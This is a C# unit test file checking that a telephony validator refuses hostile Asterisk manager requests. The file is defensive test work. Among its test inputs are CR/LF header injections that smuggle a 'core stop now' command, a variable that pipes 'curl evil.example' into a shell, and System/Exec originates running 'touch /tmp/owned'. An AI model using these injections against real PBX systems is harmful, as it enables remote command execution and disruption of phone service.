using Telephony.Domain.Actions;
using Telephony.Domain.Tests.Support;

namespace Telephony.Domain.Tests.Actions;

/// <summary>
/// Before anything is journaled a request is checked: nothing in it can inject an AMI header (CR, LF, NUL in any
/// name or value, caller-controlled ones included), only allow-listed actions pass, root-equivalent ones only when
/// explicitly allowed, and each action carries the headers it needs. Every refusal names the field to fix.
/// </summary>
public sealed class ActionRequestValidatorTests
{
    private static readonly DateTimeOffset T0 = new(2026, 3, 2, 9, 0, 0, TimeSpan.Zero);

    public static readonly TheoryData<string> Injections = new() { "\r", "\n", "\r\n", "\0" };

    public static TheoryData<string> Accepted() => RequestTable.Labels("accepted.txt");

    public static TheoryData<string, string> Refused()
    {
        var data = new TheoryData<string, string>();
        foreach (var (field, request) in RequestTable.Load("refused.txt"))
            data.Add(field, request.Action + " | " + string.Join(" | ", request.Headers.Select(h => $"{h.Key}: {h.Value}")));
        return data;
    }

    /// <summary>Every header of the dialer's Originate (CallerID and each Variable included) with each injection.</summary>
    public static TheoryData<int, string> DialerHeaderInjections()
    {
        var data = new TheoryData<int, string>();
        var count = RequestTable.Get("accepted.txt", "dialer-originate").Headers.Count;
        for (var i = 0; i < count; i++)
            foreach (var injection in new[] { "\r", "\n", "\r\n", "\0" }) data.Add(i, injection);
        return data;
    }

    [Theory]
    [MemberData(nameof(Accepted))]
    public void A_well_formed_allow_listed_request_is_accepted(string label) =>
        Assert.Empty(Validate(RequestTable.Get("accepted.txt", label)));

    [Theory]
    [MemberData(nameof(Refused))]
    public void A_refused_request_names_the_field_to_fix(string field, string request)
    {
        var row = RequestTable.Load("refused.txt").First(r => r.Label == field &&
            r.Request.Action + " | " + string.Join(" | ", r.Request.Headers.Select(h => $"{h.Key}: {h.Value}")) == request);
        Assert.Contains(field, Validate(row.Request).Select(e => e.Field));
    }

    [Theory]
    [MemberData(nameof(DialerHeaderInjections))]
    public void An_injection_in_any_header_value_of_an_originate_is_refused_under_that_headers_name(int index, string injection)
    {
        var originate = RequestTable.Get("accepted.txt", "dialer-originate");
        var headers = originate.Headers.ToList();
        var (key, value) = headers[index];
        headers[index] = new(key, value[..(value.Length / 2)] + injection + "Action: Command" + injection + value[(value.Length / 2)..]);

        var error = Assert.Single(Validate(originate with { Headers = headers }));

        Assert.Equal("headers." + key, error.Field);
        Assert.Contains("CR, LF or NUL", error.Message);
    }

    [Theory]
    [MemberData(nameof(Injections))]
    public void A_callers_name_with_a_line_break_cannot_smuggle_a_second_action(string injection)
    {
        var originate = RequestTable.Get("accepted.txt", "dialer-originate");
        var smuggled = originate with { Headers = originate.Headers.With("CallerID", $"\"Eve{injection}{injection}Action: Command{injection}Command: core stop now\" <666>") };

        Assert.Equal(["headers.CallerID"], Validate(smuggled).Select(e => e.Field));
    }

    [Theory]
    [MemberData(nameof(Injections))]
    public void An_injection_in_the_node_is_refused(string injection) =>
        Assert.Contains("node", Fields(Ping() with { Node = "pbx" + injection + "1" }));

    [Theory]
    [MemberData(nameof(Injections))]
    public void An_injection_in_the_action_name_is_refused(string injection) =>
        Assert.Contains("action", Fields(Ping() with { Action = "Ping" + injection + "Action: Command" }));

    [Theory]
    [MemberData(nameof(Injections))]
    public void An_injection_in_the_idempotency_key_is_refused(string injection) =>
        Assert.Contains("idempotencyKey", Fields(Ping() with { IdempotencyKey = "order-1" + injection + "x" }));

    [Theory]
    [MemberData(nameof(Injections))]
    public void An_injection_in_a_header_name_is_refused_and_the_field_shows_it_escaped(string injection)
    {
        var errors = Validate(Ping() with { Headers = Headers.Of(("X" + injection + "Action", "Command")) });

        var field = Assert.Single(errors).Field;
        Assert.StartsWith("headers.X", field);
        Assert.Equal(-1, field.AsSpan().IndexOfAny('\r', '\n', '\0'));
        Assert.EndsWith("Action", field);
    }

    [Fact]
    public void A_missing_node_and_an_empty_idempotency_key_are_refused()
    {
        Assert.Contains("node", Fields(Ping() with { Node = "" }));
        Assert.Contains("idempotencyKey", Fields(Ping() with { IdempotencyKey = "" }));
        Assert.Empty(Validate(Ping() with { IdempotencyKey = "order-1" }));
    }

    [Fact]
    public void Every_problem_of_a_request_is_reported_at_once_each_with_its_field()
    {
        var bad = new ActionRequest("", "Hangup", Headers.Of(("Channel", "PJSIP/a\r\n")), IdempotencyKey: "k\0", Priority: 12);

        Assert.Equal(["node", "idempotencyKey", "priority", "headers.Channel"], Fields(bad));
    }

    [Fact]
    public void An_action_outside_the_configured_allow_list_is_refused_one_inside_it_accepted()
    {
        var onlyQueries = ActionPolicy.FromList(["Ping", "Status"], allowRootEquivalent: false);

        Assert.Empty(ActionRequestValidator.Validate(Ping(), onlyQueries));
        var error = Assert.Single(ActionRequestValidator.Validate(RequestTable.Get("accepted.txt", "hangup"), onlyQueries));
        Assert.Equal("action", error.Field);
        Assert.Contains("allow-list", error.Message);
    }

    [Fact]
    public void The_allow_list_matches_action_names_whatever_their_case()
    {
        var policy = ActionPolicy.FromList(["ping"], allowRootEquivalent: false);
        Assert.Empty(ActionRequestValidator.Validate(Ping() with { Action = "PING" }, policy));
    }

    [Fact]
    public void No_configured_list_means_the_default_allow_list()
    {
        var policy = ActionPolicy.FromList(null, allowRootEquivalent: false);
        Assert.Empty(ActionRequestValidator.Validate(RequestTable.Get("accepted.txt", "dialer-originate"), policy));
        Assert.Contains("action", ActionRequestValidator.Validate(Command(), policy).Select(e => e.Field));
    }

    [Fact]
    public void Command_is_refused_even_when_listed_unless_root_equivalent_actions_are_allowed()
    {
        var listed = ActionPolicy.FromList(["Command", "Ping"], allowRootEquivalent: false);
        var error = Assert.Single(ActionRequestValidator.Validate(Command(), listed));
        Assert.Equal("action", error.Field);
        Assert.Contains("root-equivalent", error.Message);

        var rootAllowed = ActionPolicy.FromList(["Command", "Ping"], allowRootEquivalent: true);
        Assert.Empty(ActionRequestValidator.Validate(Command(), rootAllowed));
    }

    [Fact]
    public void Allowing_root_equivalent_actions_does_not_list_command_by_itself()
    {
        var policy = ActionPolicy.Default with { AllowRootEquivalent = true };
        Assert.Contains("allow-list", Assert.Single(ActionRequestValidator.Validate(Command(), policy)).Message);
    }

    [Theory]
    [InlineData("System")]
    [InlineData("TrySystem")]
    [InlineData("Exec")]
    [InlineData("EXEC")]
    [InlineData(" trysystem ")]
    public void An_originate_into_a_program_running_application_is_refused_unless_allowed(string application)
    {
        var originate = SystemOriginate(application);

        var error = Assert.Single(Validate(originate));
        Assert.Equal("headers.Application", error.Field);
        Assert.Contains("root-equivalent", error.Message);
        Assert.Empty(ActionRequestValidator.Validate(originate, ActionPolicy.Default with { AllowRootEquivalent = true }));
    }

    [Fact]
    public void A_shell_call_hidden_in_an_originate_variable_is_refused_unless_allowed()
    {
        var originate = RequestTable.Get("accepted.txt", "dialer-originate");
        var withShell = originate with { Headers = [.. originate.Headers, new("Variable", "NOTE=${SHELL(curl evil.example | sh)}")] };

        var error = Assert.Single(Validate(withShell));
        Assert.Equal("headers.Variable", error.Field);
        Assert.Contains("SHELL", error.Message);
        Assert.Empty(ActionRequestValidator.Validate(withShell, ActionPolicy.Default with { AllowRootEquivalent = true }));
    }

    [Fact]
    public void A_header_value_sent_as_json_null_is_judged_not_thrown_on()
    {
        var hangup = new ActionRequest(RequestTable.Node, "Hangup", [new("Channel", "PJSIP/a-1"), new("Cause", null!)]);
        Assert.Empty(Validate(hangup));
        Assert.Equal(["headers.Channel"], Fields(hangup with { Headers = [new("Channel", null!)] }));
    }

    [Theory]
    [InlineData("true")]
    [InlineData("yes")]
    [InlineData("True")]
    public void An_originate_may_say_it_is_asynchronous(string async) =>
        Assert.Empty(Validate(MinimalOriginate().With("Async", async)));

    [Theory]
    [InlineData("false")]
    [InlineData("0")]
    [InlineData("")]
    public void A_synchronous_originate_is_refused(string async) =>
        Assert.Equal(["headers.Async"], Fields(MinimalOriginate().With("Async", async)));

    [Theory]
    [InlineData(-1, false)]
    [InlineData(0, true)]
    [InlineData(5, true)]
    [InlineData(9, true)]
    [InlineData(10, false)]
    public void Priority_runs_from_0_to_9(int priority, bool accepted) =>
        Assert.Equal(accepted ? Array.Empty<string>() : ["priority"], Fields(Ping() with { Priority = priority }));

    [Theory]
    [InlineData(-60, false)]
    [InlineData(0, false)]
    [InlineData(1, true)]
    public void ExpiresAt_must_come_after_notBefore(int expiresAfterSeconds, bool accepted) =>
        Assert.Equal(accepted ? Array.Empty<string>() : ["expiresAt"],
            Fields(Ping() with { NotBefore = T0, ExpiresAt = T0.AddSeconds(expiresAfterSeconds) }));

    [Fact]
    public void ExpiresAt_or_notBefore_alone_is_fine()
    {
        Assert.Empty(Validate(Ping() with { ExpiresAt = T0 }));
        Assert.Empty(Validate(Ping() with { NotBefore = T0 }));
    }

    [Fact]
    public void Too_many_headers_or_too_long_a_value_is_refused()
    {
        var policy = ActionPolicy.Default with { MaxHeaders = 3, MaxValueLength = 10 };
        var four = Headers.Of(("A", "1"), ("B", "2"), ("C", "3"), ("D", "4"));

        Assert.Equal(["headers"], ActionRequestValidator.Validate(Ping() with { Headers = four }, policy).Select(e => e.Field));
        Assert.Equal(["headers.Channel"], ActionRequestValidator.Validate(
            new ActionRequest("pbx-1", "Hangup", Headers.Of(("Channel", "PJSIP/alice-00000001"))), policy).Select(e => e.Field));
    }

    [Fact]
    public void An_error_reads_field_then_message() =>
        Assert.Equal("headers.Channel: Hangup needs Channel",
            Assert.Single(Validate(new ActionRequest("pbx-1", "Hangup", []))).ToString());

    private static IReadOnlyList<ActionRequestError> Validate(ActionRequest request) =>
        ActionRequestValidator.Validate(request, ActionPolicy.Default);

    private static List<string> Fields(ActionRequest request) => Validate(request).Select(e => e.Field).ToList();

    private static ActionRequest Ping() => new(RequestTable.Node, "Ping", []);

    private static ActionRequest Command() => new(RequestTable.Node, "Command", Headers.Of(("Command", "core show channels")));

    private static ActionRequest SystemOriginate(string application) => new(RequestTable.Node, "Originate",
        Headers.Of(("Channel", "PJSIP/100"), ("Application", application), ("Data", "touch /tmp/owned"), ("Async", "true")));

    private static ActionRequest MinimalOriginate() => RequestTable.Get("accepted.txt", "originate-without-async");
}

internal static class RequestEditing
{
    public static ActionRequest With(this ActionRequest request, string key, string value) =>
        request with { Headers = request.Headers.With(key, value) };
}
